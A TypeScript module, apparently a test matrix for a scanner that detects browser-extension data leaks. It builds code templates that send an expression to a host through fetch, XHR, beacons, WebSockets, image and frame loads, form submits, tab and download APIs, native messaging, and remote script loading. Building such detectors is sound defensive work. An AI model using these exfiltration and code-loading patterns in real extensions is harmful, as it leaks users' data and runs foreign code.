import type { Channel, Part } from './part.ts';

/** A way in which data leaves. */
export interface MatrixSink {
  readonly id: string;
  readonly channel: Channel;
  /** Where it can stand; everywhere where absent. */
  readonly part?: Part;
  readonly permissions?: readonly string[];
  /** Statements that send the expression to `host` (an origin or a path without the last slash). */
  send(expression: string, host: string): string;
  /** Foreign code is loaded by it whatever is sent: its harmless twin always has the extension's own host. */
  readonly loadsCode?: true;
  /** Whether the same statements are harmless when the host is the extension's own package. */
  readonly hasOwnHost: boolean;
}

const sink = (id: string, send: (x: string, host: string) => string, more: Partial<MatrixSink> = {}): MatrixSink => ({
  id,
  channel: 'network',
  hasOwnHost: true,
  send,
  ...more,
});
const inPage = (id: string, send: (x: string, host: string) => string): MatrixSink =>
  sink(id, send, { part: 'content' });
const inBackground = (
  id: string,
  permissions: readonly string[],
  send: (x: string, host: string) => string,
  more: Partial<MatrixSink> = {},
): MatrixSink => sink(id, send, { part: 'background', permissions, ...more });

/** At least 30. */
export const SINKS: readonly MatrixSink[] = [
  sink('fetch-body', (x, host) => `fetch('${host}/c', { method: 'POST', body: JSON.stringify(${x}) });`),
  sink('fetch-body-raw', (x, host) => `fetch('${host}/c', { method: 'POST', mode: 'no-cors', body: ${x} });`),
  sink('fetch-query', (x, host) => `fetch('${host}/c?d=' + encodeURIComponent(${x}));`),
  sink('fetch-template', (x, host) => `fetch(\`${host}/c/\${${x}}\`, { credentials: 'include' });`),
  sink('fetch-header', (x, host) => `fetch('${host}/c', { headers: { 'x-data': ${x} } });`),
  sink(
    'fetch-options',
    (x, host) =>
      `const options = { method: 'POST' }; options.body = new URLSearchParams({ d: ${x} }); fetch('${host}/c', options);`,
  ),
  sink('fetch-request', (x, host) => `fetch(new Request('${host}/c', { method: 'PUT', body: ${x} }));`),
  sink(
    'fetch-form-data',
    (x, host) =>
      `const form = new FormData(); form.append('d', ${x}); fetch('${host}/c', { method: 'POST', body: form });`,
  ),
  sink(
    'fetch-blob',
    (x, host) =>
      `const blob = new Blob([${x}], { type: 'text/plain' }); window.fetch('${host}/c', { method: 'POST', body: blob });`,
  ),
  sink(
    'fetch-url-object',
    (x, host) => `const url = new URL('${host}/c'); url.searchParams.set('d', ${x}); fetch(url);`,
  ),
  sink(
    'fetch-variable-host',
    (x, host) =>
      `const BASE = '${host}'; const api = { path: '/c' }; fetch(BASE + api.path, { method: 'POST', body: ${x} });`,
  ),
  sink(
    'xhr-body',
    (x, host) =>
      `const xhr = new XMLHttpRequest(); xhr.open('POST', '${host}/c', true); xhr.setRequestHeader('content-type', 'text/plain'); xhr.send(${x});`,
  ),
  sink('xhr-address', (x, host) => `var r = new XMLHttpRequest(); r.open('GET', '${host}/c?d=' + ${x}); r.send();`),
  sink(
    'xhr-header',
    (x, host) =>
      `const xhr = new XMLHttpRequest(); xhr.open('GET', '${host}/c'); xhr.setRequestHeader('x-data', ${x}); xhr.send(null);`,
  ),
  sink('beacon', (x, host) => `navigator.sendBeacon('${host}/c', ${x});`),
  sink(
    'socket',
    (x, host) => `const ws = new WebSocket('${host}/s'); ws.onopen = () => ws.send(JSON.stringify({ d: ${x} }));`,
    { hasOwnHost: false },
  ),
  sink('socket-address', (x, host) => `new WebSocket('${host}/s?d=' + ${x});`, { hasOwnHost: false }),
  sink('event-source', (x, host) => `new EventSource('${host}/e?d=' + ${x});`),
  sink('axios-post', (x, host) => `axios.post('${host}/c', { d: ${x} });`),
  sink('axios-config', (x, host) => `axios({ url: '${host}/c', method: 'post', data: ${x} });`),
  sink('jquery-post', (x, host) => `$.post('${host}/c', { d: ${x} });`),
  sink('jquery-ajax', (x, host) => `$.ajax({ url: '${host}/c', type: 'POST', data: ${x} });`),
  sink('imported-script', (x, host) => `import('${host}/c.js?d=' + ${x});`, { loadsCode: true }),
  inPage('image', (x, host) => `new Image().src = '${host}/p.gif?d=' + ${x};`),
  inPage(
    'image-element',
    (x, host) =>
      `const img = document.createElement('img'); img.setAttribute('src', '${host}/p.gif?d=' + ${x}); document.body.appendChild(img);`,
  ),
  sink(
    'script-element',
    (x, host) =>
      `const script = document.createElement('script'); script.src = \`${host}/j?cb=a&d=\${${x}}\`; document.head.append(script);`,
    { part: 'content', loadsCode: true },
  ),
  inPage(
    'frame',
    (x, host) =>
      `const frame = document.createElement('iframe'); frame.src = '${host}/f#' + ${x}; document.body.append(frame);`,
  ),
  inPage(
    'style-link',
    (x, host) =>
      `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = '${host}/s.css?' + ${x}; document.head.append(link);`,
  ),
  inPage('style-image', (x, host) => `document.body.style.backgroundImage = 'url(${host}/i.png?d=' + ${x} + ')';`),
  inPage(
    'form-submit',
    (x, host) =>
      `const form = document.createElement('form'); form.method = 'post'; form.action = '${host}/c'; const part = document.createElement('input'); part.name = 'd'; part.value = ${x}; form.append(part); document.body.append(form); form.submit();`,
  ),
  inPage(
    'form-action',
    (x, host) =>
      `const form = document.createElement('form'); form.action = '${host}/c?d=' + ${x}; document.body.append(form); form.submit();`,
  ),
  inPage('navigation', (x, host) => `location.href = '${host}/go?d=' + ${x};`),
  inPage('window-open', (x, host) => `window.open('${host}/go?d=' + ${x}, '_blank');`),
  inPage(
    'markup-image',
    (x, host) =>
      `document.body.insertAdjacentHTML('beforeend', '<img src="${host}/p.gif?d=' + encodeURIComponent(${x}) + '">');`,
  ),
  inBackground('tabs-create', ['tabs'], (x, host) => `chrome.tabs.create({ url: '${host}/go?d=' + ${x} });`),
  inBackground('tabs-update', ['tabs'], (x, host) => `chrome.tabs.update({ url: '${host}/go?d=' + ${x} });`),
  inBackground('download', ['downloads'], (x, host) => `chrome.downloads.download({ url: '${host}/d?d=' + ${x} });`),
  inBackground(
    'auth-flow',
    ['identity'],
    (x, host) => `chrome.identity.launchWebAuthFlow({ url: '${host}/auth?state=' + ${x} }, () => {});`,
  ),
  inBackground('uninstall-address', [], (x, host) => `chrome.runtime.setUninstallURL('${host}/bye?d=' + ${x});`),
  inBackground(
    'native-message',
    ['nativeMessaging'],
    (x) => `chrome.runtime.sendNativeMessage('com.example.host', { d: ${x} });`,
    { channel: 'native', hasOwnHost: false },
  ),
  inBackground(
    'native-port',
    ['nativeMessaging'],
    (x) => `const native = chrome.runtime.connectNative('com.example.host'); native.postMessage({ d: ${x} });`,
    { channel: 'native', hasOwnHost: false },
  ),
  inBackground(
    'foreign-extension',
    [],
    (x) => `chrome.runtime.sendMessage('abcdefghijklmnopabcdefghijklmnop', { d: ${x} });`,
    { channel: 'extension', hasOwnHost: false },
  ),
];
